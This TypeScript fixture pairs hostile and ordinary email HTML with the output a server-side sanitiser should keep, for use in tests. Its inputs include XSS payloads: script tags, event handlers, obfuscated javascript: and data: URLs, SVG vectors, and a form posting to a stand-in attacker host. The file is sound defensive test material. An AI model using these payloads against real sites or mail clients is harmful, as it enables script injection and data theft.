/**
 * Hostile and ordinary email HTML with what the server's sanitiser keeps of each
 * (`@backoffice/shared-api/email-html-cases`). The server's tests hold its sanitiser to `server`;
 * the editor's tests hold the preview to showing nothing outside it. Both are configured from
 * EMAIL_HTML, and these cases check that the two configurations agree.
 */
export interface EmailHtmlCase {
  name: string;
  input: string;
  /** What the server stores. */
  server: string;
}

export const EMAIL_HTML_CASES: readonly EmailHtmlCase[] = [
  {
    name: 'a <style> element',
    input: '<style>p { color: red }</style><p style="color: red">a</p>',
    server: '<p style="color:red">a</p>',
  },
  {
    name: 'a <form> and its controls',
    input:
      '<form action="https://evil.test/collect" method="post"><p>Name <input name="q"> <textarea>t</textarea><select><option>o</option></select></p><button formaction="javascript:x()">Go</button></form>',
    server: '<p>Name  </p>Go',
  },
  {
    name: 'a <script>',
    input: '<p>a<script>alert(1)</script>b</p><script src="https://evil.test/x.js"></script>',
    server: '<p>ab</p>',
  },
  {
    name: 'event handlers',
    input:
      '<p onclick="x()" ONMOUSEOVER="y()" style="color: blue">a</p><img src="https://x.test/a.png" onerror="x()" alt="a"><body onload="x()"><a href="https://x.test" onfocus="x()">b</a>',
    server:
      '<p style="color:blue">a</p><img src="https://x.test/a.png" alt="a" /><body><a href="https://x.test">b</a></body>',
  },
  {
    name: 'javascript: URLs',
    input:
      '<a href=" JavaScript:alert(1)">a</a><a href="java&#x09;script:alert(1)">b</a><a href="vbscript:msgbox(1)">c</a><img src="javascript:alert(1)" alt="d"><blockquote cite="javascript:x()">e</blockquote>',
    server: '<a>a</a><a>b</a><a>c</a><img alt="d" /><blockquote>e</blockquote>',
  },
  {
    name: 'data: URLs',
    input:
      '<a href="data:text/html,<script>x()</script>">a</a><img src="data:image/svg+xml;base64,PHN2Zz4=" alt="svg"><img src="data:text/html;base64,PHNjcmlwdD4=" alt="html"><img src="data:image/png;base64,iVBORw0KGgo=" alt="png">',
    server: '<a>a</a><img alt="svg" /><img alt="html" /><img src="data:image/png;base64,iVBORw0KGgo=" alt="png" />',
  },
  {
    name: 'svg',
    input:
      '<svg onload="x()" width="10"><script>x()</script><a xlink:href="javascript:x()"><text>t</text></a><foreignObject><p>in</p></foreignObject></svg><p>after</p>',
    server: '<a>t</a><p>in</p><p>after</p>',
  },
  {
    name: 'math',
    input: '<math><mi xlink:href="javascript:x()">x</mi></math><p>after</p>',
    server: 'x<p>after</p>',
  },
  {
    name: 'frames, objects and what a page would load',
    input:
      '<iframe src="https://evil.test"></iframe><object data="x.swf"><embed src="x.swf"></object><base href="https://evil.test/"><link rel="stylesheet" href="https://evil.test/x.css"><meta http-equiv="refresh" content="0;url=https://evil.test"><p>a</p>',
    server: '<meta /><p>a</p>',
  },
  {
    name: 'unsafe styles',
    input:
      '<p style="width: expression(alert(1)); color: blue; background: url(javascript:alert(1)); position: fixed; font-family: \'Helvetica Neue\', Arial; COLOR: red">a</p><p style="font-family: \'a;b\'; margin: 0">b</p><p style="color: red; font-family: \'open">c</p>',
    server: '<p style="color:blue;font-family:\'Helvetica Neue\', Arial">a</p><p style="margin:0">b</p><p>c</p>',
  },
  {
    name: 'attributes off the list',
    input:
      '<p class="x" id="y" data-x="1" title="t">a</p><a href="https://x.test" target="_top" rel="opener">b</a><a href="https://x.test" target="_blank">c</a><td background="https://x.test/bg.png">d</td>',
    server:
      '<p title="t">a</p><a href="https://x.test" target>b</a><a href="https://x.test" target="_blank">c</a><td>d</td>',
  },
  {
    name: 'comments',
    input: '<p>a<!-- secret --></p><!--[if mso]><p>mso</p><![endif]-->',
    server: '<p>a</p>',
  },
  {
    name: 'protocol-relative and relative addresses',
    input: '<a href="//evil.test/x">a</a><img src="//evil.test/p.gif" alt="b"><a href="/path">c</a>',
    server: '<a>a</a><img alt="b" /><a href="/path">c</a>',
  },
  {
    name: 'placeholders in links and text',
    input:
      '<p>Hi {{firstName}}, <a href="{{resetLink}}" target="_blank">reset</a> <a href="{{ resetLink }}">again</a> <a href="mailto:{{email}}">mail</a></p>',
    server:
      '<p>Hi {{firstName}}, <a href="{{resetLink}}" target="_blank">reset</a> <a href="{{ resetLink }}">again</a> <a href="mailto:{{email}}">mail</a></p>',
  },
  {
    name: 'an ordinary layout',
    input:
      '<table width="100%" cellpadding="0" cellspacing="0" border="0" role="presentation"><tbody><tr><td align="center" valign="top" bgcolor="#ffffff" style="padding: 12px 24px; background-color: rgb(255, 255, 255)"><h1 style="font-size: 20px">Welcome</h1><p>Hello <strong>Jane</strong>, <em>welcome</em> &amp; thanks.<br>Line two</p><ul><li>one</li></ul><ol start="2"><li>two</li></ol><img src="https://cdn.x.test/logo.png" alt="Logo" width="120" height="40"><hr><a href="https://x.test/start" target="_blank">Start</a> <a href="mailto:help@x.test">help</a> <a href="tel:+15550100">call</a></td></tr></tbody></table>',
    server:
      '<table width="100%" cellpadding="0" cellspacing="0" border="0" role="presentation"><tbody><tr><td align="center" valign="top" bgcolor="#ffffff" style="padding:12px 24px;background-color:rgb(255, 255, 255)"><h1 style="font-size:20px">Welcome</h1><p>Hello <strong>Jane</strong>, <em>welcome</em> &amp; thanks.<br />Line two</p><ul><li>one</li></ul><ol start="2"><li>two</li></ol><img src="https://cdn.x.test/logo.png" alt="Logo" width="120" height="40" /><hr /><a href="https://x.test/start" target="_blank">Start</a> <a href="mailto:help@x.test">help</a> <a href="tel:+15550100">call</a></td></tr></tbody></table>',
  },
];
